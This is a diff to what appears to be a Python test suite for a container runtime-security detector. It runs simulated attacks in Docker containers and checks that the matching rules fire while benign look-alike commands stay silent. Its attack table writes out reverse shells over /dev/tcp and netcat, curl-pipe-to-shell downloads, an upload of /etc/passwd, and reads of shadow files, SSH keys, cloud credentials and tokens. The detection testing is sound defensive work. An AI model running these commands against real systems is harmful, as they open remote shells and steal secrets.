@@ -3,7 +3,6 @@ import os
 import subprocess
 import sys
 import threading
-import time
 
 import docker
 import watch
@@ -19,8 +18,9 @@ NAMES = """xmrig nmap kubectl amicontained hydra tcpdump chisel apt-get pip gcc 
 FREE = ["--security-opt", "seccomp=unconfined"]
 
 
-# Files are watched from some milliseconds after a container's first program on, more where the machine is busy: these go on for a while.
-AGAIN = "for n in 1 2 3 4 5 6 7 8 9 10; do sleep 0.5; "
+# Files are watched from some milliseconds after a container's first program on, and a container that is gone cannot be looked into; how soon
+# depends on the machine. What begins so goes on until it was seen.
+AGAIN = "while sleep 0.5; do "
 
 
 def caps(*names):
@@ -30,46 +30,46 @@ def caps(*names):
 # name: (rules, options of docker run, script for bash)
 ATTACKS = {
     # shells over the network
-    "dev-tcp": (["reverse-shell-arguments"], [], "timeout 1 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),
-    "dev-tcp-connects": (["shell-connects"], [], "timeout 1 bash -c 'exec 3<>/dev/tcp/203.0.113.6/8443'"),
-    "fifo": (["reverse-shell-arguments"], [], "timeout 1 sh -c 'mkfifo /tmp/f; nc 203.0.113.5 9 </tmp/f | sh >/tmp/f'"),
+    "dev-tcp": (["reverse-shell-arguments"], [], "timeout 15 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),
+    "dev-tcp-connects": (["shell-connects"], [], "timeout 15 bash -c 'exec 3<>/dev/tcp/203.0.113.6/8443'"),
+    "fifo": (["reverse-shell-arguments"], [], "timeout 15 sh -c 'mkfifo /tmp/f; nc 203.0.113.5 9 </tmp/f | sh >/tmp/f'"),
     "shell-on-socket": (["reverse-shell"], [], "/opt/deed shell-on-socket"),
-    "nc-e": (["netcat-executes"], [], "timeout 1 nc -w 1 203.0.113.5 9 -e /bin/sh"),
-    "nc-l": (["backdoor-port"], [], "timeout 1 nc -l -p 4444"),
+    "nc-e": (["netcat-executes"], [], "timeout 15 nc -w 10 203.0.113.5 9 -e /bin/sh"),
+    "nc-l": (["backdoor-port"], [], "timeout 15 nc -l -p 4444"),
     "servers": (["shell-of-server", "tool-of-server", "shell-of-database", "server-reads-secrets"], [],
                 "/opt/nginx spawn sh -c 'id >/dev/null'; /opt/nginx spawn whoami; /opt/redis-server spawn bash -c true; " + AGAIN + "/opt/nginx open /etc/shadow; done"),
     # programs that the image does not hold
-    "tmp": (["exec-from-temp", "drift-executable"], [], "cp /opt/deed /tmp/x; /tmp/x"),
-    "modified": (["drift-executable"], [], "echo x >>/opt/deed2; /opt/deed2; sleep 1"),
-    "other-root": (["drift-executable"], [], "mkdir -p /opt/r/opt; cp /opt/deed /opt/r/opt/deed; echo x >>/opt/r/opt/deed; chroot /opt/r /opt/deed; sleep 1"),
-    "removes-itself": (["drift-executable"], [], "cp /opt/deed /opt/gone; /opt/gone; rm /opt/gone; sleep 1"),
-    "script": (["drift-script"], [], "printf '#!/bin/bash\\ntrue\\n' >/opt/new; chmod +x /opt/new; /opt/new; sleep 1"),
-    "script-by-interpreter": (["drift-script"], [], "echo true >/opt/by; sh /opt/by; sleep 1"),
-    "shm": (["exec-from-shm"], ["--tmpfs", "/dev/shm:exec"], "cp /opt/deed /dev/shm/x; /dev/shm/x"),
-    "hidden": (["hidden-executable"], [], "mkdir /opt/.x; cp /opt/deed /opt/.x/y; /opt/.x/y; sleep 1"),
+    "tmp": (["exec-from-temp", "drift-executable"], [], AGAIN + "cp /opt/deed /tmp/x; /tmp/x; done"),
+    "modified": (["drift-executable"], [], AGAIN + "echo x >>/opt/deed2; /opt/deed2; done"),
+    "other-root": (["drift-executable"], [], AGAIN + "mkdir -p /opt/r/opt; cp /opt/deed /opt/r/opt/deed; echo x >>/opt/r/opt/deed; chroot /opt/r /opt/deed; done"),
+    "removes-itself": (["drift-executable"], [], AGAIN + "cp /opt/deed /opt/gone; /opt/gone; rm /opt/gone; done"),
+    "script": (["drift-script"], [], AGAIN + "printf '#!/bin/bash\\ntrue\\n' >/opt/new; chmod +x /opt/new; /opt/new; done"),
+    "script-by-interpreter": (["drift-script"], [], AGAIN + "echo true >/opt/by; sh /opt/by; done"),
+    "shm": (["exec-from-shm"], ["--tmpfs", "/dev/shm:exec"], AGAIN + "cp /opt/deed /dev/shm/x; /dev/shm/x; done"),
+    "hidden": (["hidden-executable"], [], AGAIN + "mkdir -p /opt/.x; cp /opt/deed /opt/.x/y; /opt/.x/y; done"),
     "memory": (["fileless-execution"], [], "/opt/deed from-memory true"),
     "deleted": (["deleted-executable"], [], "cp /opt/deed /tmp/y; /opt/deed deleted /tmp/y"),
-    "preload": (["drift-library", "library-from-temp"], [], "cp /opt/code.so /tmp/evil.so; LD_PRELOAD=/tmp/evil.so sleep 1"),
-    "calls-home": (["dropped-program-connects"], [], "cp /usr/bin/curl /tmp/c; /tmp/c -m 1 http://203.0.113.9/"),
+    "preload": (["drift-library", "library-from-temp"], [], AGAIN + "cp /opt/code.so /tmp/evil.so; LD_PRELOAD=/tmp/evil.so sleep 1; done"),
+    "calls-home": (["dropped-program-connects"], [], AGAIN + "cp /usr/bin/curl /tmp/c; /tmp/c -m 10 http://203.0.113.9/; done"),
     "masquerade": (["masquerades-as-kernel"], [], "exec -a '[kworker/0:1]' sleep 0.1"),
     "decoded": (["decoded-payload"], [], "bash -c 'echo dHJ1ZQ== | base64 -d | sh'"),
     "download": (["download-into-shell", "download-to-temp", "upload-by-tool"], [],
-                 "sh -c 'curl -m 1 http://203.0.113.5/x | sh'; curl -m 1 -o /tmp/x http://203.0.113.5/x; curl -m 1 -T /etc/passwd http://203.0.113.5/"),
+                 "sh -c 'curl -m 10 http://203.0.113.5/x | sh'; curl -m 10 -o /tmp/x http://203.0.113.5/x; curl -m 10 -T /etc/passwd http://203.0.113.5/"),
     # tools by their names
     "names": (["miner-program", "network-scanner", "kubernetes-client", "escape-toolkit", "password-cracking", "sniffer", "tunnel-tool", "package-manager",
                "disk-tools", "polkit-exploit", "sudo-exploit", "immutable-attribute", "defences-stopped", "image-built-on-host", "module-attempt", "bulk-removal"],
               [], "xmrig; nmap -sS 10.0.0.0/8; kubectl get pods; amicontained; hydra; tcpdump; chisel; apt-get update; debugfs /dev/sda; pkexec; "
                   "sudoedit -s '\\'; chattr +i /etc/x; pkill falco; docker build .; insmod x.ko; shred /tmp/none"),
-    "miner": (["miner-arguments", "miner-port"], [], "sleep 0 --donate-level 1 -o stratum+tcp://pool:3333; timeout 1 nc -w 1 203.0.113.5 3333"),
-    "ssh": (["ssh-client", "ssh-other-port"], [], "timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 -p 2022 203.0.113.5"),
+    "miner": (["miner-arguments", "miner-port"], [], "sleep 0 --donate-level 1 -o stratum+tcp://pool:3333; timeout 15 nc -w 10 203.0.113.5 3333"),
+    "ssh": (["ssh-client", "ssh-other-port"], [], "timeout 15 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=10 -p 2022 203.0.113.5"),
     "packet": (["packet-socket"], [], "/opt/deed packet-socket"),
     # secrets
     "secrets": (["shadow-read", "ssh-key-read", "cloud-credentials-read", "service-account-token-tool", "credential-search", "environment-of-others",
                  "memory-dump"], [],
                 AGAIN + "cat /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials; cat /run/secrets/kubernetes.io/serviceaccount/token; grep -r AKIA /root; "
                 "cat /proc/1/environ; dd if=/proc/1/mem of=/dev/null count=0; done"),
-    "metadata": (["metadata-service", "metadata-service-first"], [], "/opt/nginx open /etc/hosts; curl -m 1 http://169.254.169.254/latest/"),
-    "api-ports": (["engine-api-port", "kubernetes-api-tool"], [], "timeout 1 nc -w 1 203.0.113.5 2375; curl -m 1 -k https://203.0.113.5:6443/api"),
+    "metadata": (["metadata-service", "metadata-service-first"], [], "/opt/nginx open /etc/hosts; curl -m 10 http://169.254.169.254/latest/"),
+    "api-ports": (["engine-api-port", "kubernetes-api-tool"], [], "timeout 15 nc -w 10 203.0.113.5 2375; curl -m 10 -k https://203.0.113.5:6443/api"),
     # ways out
     "privileged": (["privileged-container"], ["--privileged"], "sleep 1"),
     "host-pid": (["host-namespaces"], ["--pid=host"], "sleep 1"),
@@ -102,7 +102,7 @@ ATTACKS = {
               AGAIN + "for f in /etc/cron.d/x /root/.ssh/authorized_keys /etc/passwd /root/.bashrc /etc/ld.so.preload /docker-entrypoint.sh "
               "/etc/apt/sources.list.d/x.list /etc/systemd/system/x.service; do /opt/deed write $f; done; done"),
     "setuid": (["setuid-bit", "setcap", "setuid-drifted", "setuid-program"], [],
-               "cp /opt/deed /opt/s; chmod u+s /opt/s; setcap cap_setuid+ep /opt/deed2; /opt/deed as-user /opt/s; sleep 1"),
+               AGAIN + "cp /opt/deed /opt/s; chmod u+s /opt/s; setcap cap_setuid+ep /opt/deed2; /opt/deed as-user /opt/s; done"),
     "liblzma": (["backdoored-liblzma"], [], "/opt/sshd map /opt/liblzma.so.5.6.1"),
     # traces
     "traces": (["logs-cleared", "history-cleared", "link-over-sensitive"], [],
@@ -124,16 +124,16 @@ ENTERED = {
 
 # The same tools and calls as they are used by right.
 TWINS = {
-    "shells": ([], "bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null; timeout 1 nc -w 1 127.0.0.1 9; timeout 1 nc -l -p 4444 -s 127.0.0.1"),
+    "shells": ([], "bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null; timeout 15 nc -w 10 127.0.0.1 9; timeout 3 nc -l -p 4444 -s 127.0.0.1"),
     "server": ([], "/opt/nginx open /etc/hosts; /opt/nginx spawn /opt/deed; /opt/redis-server open /etc/passwd"),
     "own-programs": ([], "chmod 700 /opt/deed; /opt/deed; chown 1:1 /opt/deed2; /opt/deed2; mv /opt/deed /opt/moved; /opt/moved; touch /opt/deed2; /opt/deed2; sleep 1"),
     "temporary-files": ([], "cp /opt/deed /tmp/x; rm /tmp/x; echo data >/tmp/y; cat /tmp/y; mkfifo /tmp/f; mkdir /tmp/.hidden; echo x >/dev/shm/z; rm /dev/shm/z"),
-    "downloads": ([], "curl -m 1 -s http://203.0.113.5/health; curl -m 1 -s -o /opt/x http://203.0.113.5/x; echo aGk= | base64 -d"),
+    "downloads": ([], "curl -m 10 -s http://203.0.113.5/health; curl -m 10 -s -o /opt/x http://203.0.113.5/x; echo aGk= | base64 -d"),
     "reads": ([], "sleep 0.5; cat /etc/passwd /etc/hosts /root/.ssh/known_hosts /root/.aws/other; grep root /etc/passwd; cat /proc/self/status /proc/1/stat >/dev/null; ls /root"),
     "kernel-files": ([], "sleep 0.5; cat /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe; mount >/dev/null; df >/dev/null; ls /proc/1 >/dev/null"),
     "accounts": ([], "id; getent passwd root; whoami; touch /tmp/new; ln -s /opt/deed /tmp/link; chmod 755 /tmp/new; rm /tmp/new; dd if=/dev/zero of=/tmp/z count=1"),
     "entry-script": ([], "sleep 0.5; echo 'app:x:1000:1000::/:/bin/sh' >>/etc/passwd; echo 'PS1=x' >>/root/.profile; mkdir -p /var/log/app; echo x >/var/log/app/log; rm -rf /var/log/app"),
-    "own-port": ([], "/opt/deed io; timeout 1 busybox httpd -f -p 8080; sleep 0 --threads 4 -o out"),
+    "own-port": ([], "/opt/deed io; timeout 3 busybox httpd -f -p 8080; sleep 0 --threads 4 -o out"),
 }
 
 
@@ -173,7 +173,7 @@ def rules_of(w, name):
 
 def at_once(works):
     """Runs them four at a time."""
-    works, lock = list(works), threading.Lock()
+    works, lock, failed = list(works), threading.Lock(), []
 
     def worker():
         while True:
@@ -181,17 +181,36 @@ def at_once(works):
                 if not works:
                     return
                 work = works.pop()
-            work()
+            try:
+                work()
+            except Exception as error:
+                failed.append(error)
     threads = [threading.Thread(target=worker) for _ in range(4)]
     for t in threads:
         t.start()
     for t in threads:
         t.join()
+    if failed:
+        raise failed[0]
 
 
-def run(name, options, script):
+def run(w, name, options, script, rules=()):
+    """Runs it to its end; what goes on and on is ended when it has triggered the rules, or has not for a long time."""
     options = [word.replace("SOCKET", engine.socket) for word in options]
-    engine("run", "--name", name, *options, "tools", "bash", "-c", script + "\n:", status=None)
+    goes_on = script.startswith(AGAIN)
+    engine("run", *(["-d"] if goes_on else []), "--name", name, *options, "tools", "bash", "-c", script + "\n:", status=None)
+    if goes_on:
+        triggers(w, name, rules)
+        engine("kill", name, status=None)
+
+
+def triggers(w, name, rules):
+    """Waits for them; those that did not come."""
+    try:
+        docker.wait_until(lambda: not set(rules) - rules_of(w, name))
+    except AssertionError:
+        pass
+    return set(rules) - rules_of(w, name)
 
 
 def settle(w, names):
@@ -200,25 +219,24 @@ def settle(w, names):
     refused = {name for name in names if engine("inspect", "-f", "{{.State.ExitCode}}", name) == "128" or "privileged" in name and
                engine("inspect", "-f", "{{.State.Error}}", name)}
     for name in set(names) - refused:
-        w.one("container_stop", 30, container__name=name)
-    time.sleep(2)  # what waits for its drift
+        w.one("container_stop", container__name=name)
     return refused
 
 
 def attacks(w):
     """each attack triggers its rules"""
-    at_once([lambda n=n, a=a: run("attack-" + n, a[1], a[2]) for n, a in ATTACKS.items()])
+    at_once([lambda n=n, a=a: run(w, "attack-" + n, a[1], a[2], a[0]) for n, a in ATTACKS.items()])
     refused = settle(w, ["attack-" + n for n in ATTACKS])
     for name in refused:
         print(f"# {name} could not be started here")
     triggered, missing = set(), []
     for name, (rules, _, _) in ATTACKS.items():
-        got = rules_of(w, "attack-" + name)
         if "attack-" + name in refused:
             continue
-        triggered |= got & set(rules)
-        if set(rules) - got:
-            missing.append(f"{name}: {sorted(set(rules) - got)} (there were {sorted(got)})")
+        left = triggers(w, "attack-" + name, rules)
+        triggered |= set(rules) - left
+        if left:
+            missing.append(f"{name}: {sorted(left)} (there were {sorted(rules_of(w, 'attack-' + name))})")
     live.update(triggered)
     assert not missing, "\n".join(missing)
 
@@ -228,17 +246,17 @@ def entered(w):
     engine("run", "-d", "--name", "runs", "tools", "sleep", "1000")
     for options, command in ENTERED.values():
         engine("exec", *options, "runs", *command, status=None)
-    end = time.monotonic() + 15
-    while set(ENTERED) - rules_of(w, "runs") and time.monotonic() < end:
-        time.sleep(0.1)
-    live.update(set(ENTERED) & rules_of(w, "runs"))
-    assert not set(ENTERED) - rules_of(w, "runs"), sorted(set(ENTERED) - rules_of(w, "runs"))
+    left = triggers(w, "runs", ENTERED)
+    live.update(set(ENTERED) - left)
+    assert not left, sorted(left)
 
 
 def twins(w):
     """their benign twins trigger nothing"""
-    at_once([lambda n=n, t=t: run("twin-" + n, t[0], t[1]) for n, t in TWINS.items()])
+    at_once([lambda n=n, t=t: run(w, "twin-" + n, t[0], t[1]) for n, t in TWINS.items()])
     settle(w, ["twin-" + n for n in TWINS])
+    run(w, "last", [], AGAIN + "cp /opt/deed /tmp/x; /tmp/x; done", ["drift-executable"])  # questions of drift are answered in their order
+    assert "drift-executable" in rules_of(w, "last")
     wrong = [f"{n}: {sorted(rules_of(w, 'twin-' + n))}" for n in TWINS if rules_of(w, "twin-" + n)]
     assert not wrong, "\n".join(wrong)
 
@@ -246,7 +264,7 @@ def twins(w):
 def ended(w):
     """a container that ends what watches it is told of with the last words"""
     engine("run", "--name", "killer", "--pid=host", "tools", "bash", "-c", f"kill -TERM {w.child.pid}")
-    w.child.wait(20)
+    w.child.wait(docker.PATIENCE_S)
     alerts = [r for r in w.end() if r["kind"] == "alert" and get(r, "alert.rule") == "agent-signalled"]
     assert [r for r in alerts if get(r, "container.id") == engine.container_id("killer")], alerts
     live.add("agent-signalled")
